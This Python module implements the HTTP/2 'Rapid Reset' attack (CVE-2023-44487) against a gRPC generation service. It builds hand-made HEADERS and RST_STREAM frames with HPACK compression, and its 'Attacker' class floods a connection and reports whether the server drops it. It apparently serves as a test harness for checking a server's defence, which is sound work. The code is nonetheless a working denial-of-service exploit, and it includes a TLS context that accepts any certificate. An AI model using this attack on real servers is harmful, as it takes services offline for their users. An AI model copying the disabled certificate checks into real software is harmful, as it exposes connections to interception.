"""Streams that are opened and reset at once (CVE-2023-44487), by HTTP/2 frames made by hand."""

import contextlib
import select
import socket
import ssl
import struct
import threading

from raw_http2 import ACK, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame

GENERATE = "/tvq.v1.GenerationService/Generate"
UNKNOWN = "/no.such.Service/Method"
CANCEL = struct.pack(">I", 8)
FIRST_DYNAMIC = 62  # index of the newest field of HPACK's table


def _remembered(name, value):
    """A header field, which later requests name by its index."""
    return b"\x40" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def requests(streams, path=GENERATE, reset=True):
    """The frames of so many requests, one after the other, each with its reset."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers")]
    first = b"".join(_remembered(*field) for field in fields)
    later = bytes(0x80 | FIRST_DYNAMIC + i for i in range(len(fields)))
    for index in range(streams):
        stream = 2 * index + 1
        headers = frame(HEADERS, END_HEADERS, stream, later if index else first)
        yield headers + frame(RST_STREAM, 0, stream, CANCEL) if reset else headers


class Attacker:
    """A connection without a key. What it reads it forgets; settings it acknowledges unread."""

    def __init__(self, address, tls=None, acknowledges=True, reads=True):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)))
        # OpenSSL reads and writes one connection in one thread at a time, and so without waiting.
        self.in_turns = threading.Lock() if tls else contextlib.nullcontext()
        if tls:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
            self.socket.setblocking(False)
        self.closed = threading.Event()
        acknowledgement = frame(SETTINGS, ACK, 0) if acknowledges else b""
        self.send(PREFACE + frame(SETTINGS, 0, 0) + acknowledgement)
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _at_once(self, call, *arguments):
        """What it returns, once it need not wait any more."""
        while True:
            try:
                with self.in_turns:
                    return call(*arguments)
            except ssl.SSLWantReadError:
                select.select([self.socket], [], [], 0.1)
            except ssl.SSLWantWriteError:
                select.select([], [self.socket], [], 0.1)

    def _read(self):
        with contextlib.suppress(OSError, ValueError):
            while self._at_once(self.socket.recv, 1 << 16):
                pass
        self.closed.set()

    def send(self, data):
        """Whether all was taken."""
        left = memoryview(data)
        try:
            while left:
                left = left[self._at_once(self.socket.send, left):]
            return True
        except (OSError, ValueError):  # the latter of a socket that was closed here
            self.closed.set()
            return False

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()


def insecure_tls():
    """Takes any certificate, and offers HTTP/2 as gRPC wants it."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def storm(address, data, tls=None):
    """Sends it all on one connection, or what is taken. Whether the server closed the connection.

    A server on a busy machine comes to that late.
    """
    with Attacker(address, tls) as attacker:
        return not attacker.send(data) or attacker.closed.wait(20)
